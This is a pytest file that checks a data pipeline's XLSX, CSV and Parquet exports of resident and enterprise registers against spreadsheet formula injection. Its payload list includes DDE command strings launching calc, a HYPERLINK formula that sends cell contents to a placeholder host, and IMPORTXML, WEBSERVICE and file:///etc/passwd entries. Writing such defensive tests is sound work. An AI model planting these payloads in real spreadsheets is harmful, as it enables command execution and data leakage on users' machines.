"""Whatever the data say, no cell of a package becomes a formula, a link or another cell."""

import csv
import re
import zipfile

import openpyxl
import pytest

from jiceng_pipeline.core.settings import Settings
from jiceng_pipeline.ledger.store import open_ledger
from jiceng_pipeline.returns import grants
from jiceng_pipeline.returns.formats.csv import inert
from jiceng_pipeline.returns.package import cut
from jiceng_pipeline.warehouse.connection import connect

from .conftest import ENTERPRISE, HERE, RESIDENT, row, served_rows

PAYLOADS = [
    "=1+1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://a.invalid/?x=\"&A1,\"点我\")", "{=1+1}", "=@SUM(1)",
    "+1+1", "+cmd|'/c calc'!A0", "-1+1", "-2+3+cmd|'/c calc'!A0", "--1", "@SUM(1+1)", "@a", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\u00a0+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "﹦1+1", "﹢1", "﹣1", "﹫1", "\u22121", "=1+1;=2", "张三\n=1+1", "张三,=1+1", '"=1+1', "'=1+1", "'",
    "http://a.invalid/", "https://a.invalid/?q=1", "ftp://a.invalid", "mailto:a@b.invalid", "internal:Sheet1!A1",
    "external:c:\\x.xlsx", "file:///etc/passwd", "=IMPORTXML(\"http://a.invalid\",\"//a\")", "=DDE(\"a\";\"b\";\"c\")",
    "=WEBSERVICE(\"http://a.invalid\")", "%0A-1+1", "<b>&amp;</b>", "]]>", "_x003D_1+1", "#REF!", "TRUE", "1e9",
    "00123", "3206021950010112", "2026-11-24", "1/2",
]  # fmt: skip
STARTS = "=+-@\t\r\n＝＋－＠﹦﹢﹣﹫\u2212"
ASK = {"actor": "operator", "community": HERE, "profile": "full", "purpose": "=1+1 & 核对"}
TEXTS = {
    "resident_register": ("name", "registered_address", "household_id"),
    "enterprise_register": ("business_scope",),
}


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    settings = Settings(home=tmp_path_factory.mktemp("home"))
    served_rows(
        settings,
        resident_register=[
            row(RESIDENT, resident_id=f"r{n:02d}", **dict.fromkeys(TEXTS["resident_register"], payload))
            for n, payload in enumerate(PAYLOADS)
        ],
        enterprise_register=[
            row(ENTERPRISE, enterprise_id=f"e{n:02d}", enterprise_name=payload, business_scope=payload)
            for n, payload in enumerate(PAYLOADS)
        ],
    )
    with open_ledger(settings) as ledger:
        grants.ensure_operator(ledger)
    return settings


@pytest.mark.parametrize("dataset", TEXTS)
def test_xlsx_holds_strings_and_nothing_else(served, dataset):
    made = cut(served, **ASK, dataset=dataset)
    with zipfile.ZipFile(made.path) as parts:
        names = parts.namelist()
        sheets = [parts.read(name).decode() for name in names if name.startswith("xl/worksheets/sheet")]
        links = [name for name in names if "_rels/sheet" in name or "vba" in name.lower() or "externalLink" in name]
    assert not links
    assert not [sheet for sheet in sheets if re.search(r"<f[ >]|<hyperlink|t=\"(str|e|b)\"", sheet)]
    book = openpyxl.load_workbook(made.path)
    assert {cell.data_type for sheet in book for line in sheet.iter_rows() for cell in line} <= {"s", "n", "d"}
    sheet = book.worksheets[0]
    titles = {cell.value: cell.column for cell in sheet[1]}
    for title in ("姓名", "户籍地址") if dataset == "resident_register" else ("市场主体名称", "经营范围"):
        cells = [sheet.cell(line, titles[title]) for line in range(2, sheet.max_row + 1)]
        assert {cell.data_type for cell in cells} == {"s"}
        assert [cell.value.replace("_x000D_", "\r") for cell in cells] == PAYLOADS  # as OOXML writes it


@pytest.mark.parametrize("dataset", TEXTS)
def test_csv_cells_start_no_formula_and_lose_nothing(served, dataset):
    made = cut(served, **ASK, dataset=dataset, format="csv")
    with made.path.open(encoding="utf-8-sig", newline="") as file:
        header, *lines = csv.reader(file)
    assert len(lines) == len(PAYLOADS)
    for line in lines:
        assert len(line) == len(header)
        assert not [cell for cell in line if cell.lstrip(" \u3000\ufeff\u200b\u00a0").startswith(tuple(STARTS))]
    column = header.index("姓名" if dataset == "resident_register" else "经营范围")
    assert [line[column] for line in lines] == [inert(payload) for payload in PAYLOADS]
    assert all(inert(payload).removeprefix("'") == payload for payload in PAYLOADS if inert(payload) != payload)


@pytest.mark.parametrize("dataset", TEXTS)
def test_parquet_gives_the_text_back(served, dataset):
    made = cut(served, **ASK, dataset=dataset, format="parquet")
    column = TEXTS[dataset][0]
    with connect() as connection:
        said = [value for (value,) in connection.execute(f"select {column} from '{made.path}'").fetchall()]
    assert said == PAYLOADS


def test_ordinary_text_is_left_alone():
    for text in ("张三", "青年东路12号", "1950", "a=b", "", "  ", "'quoted'", "0513-85123456"):
        assert inert(text) == text
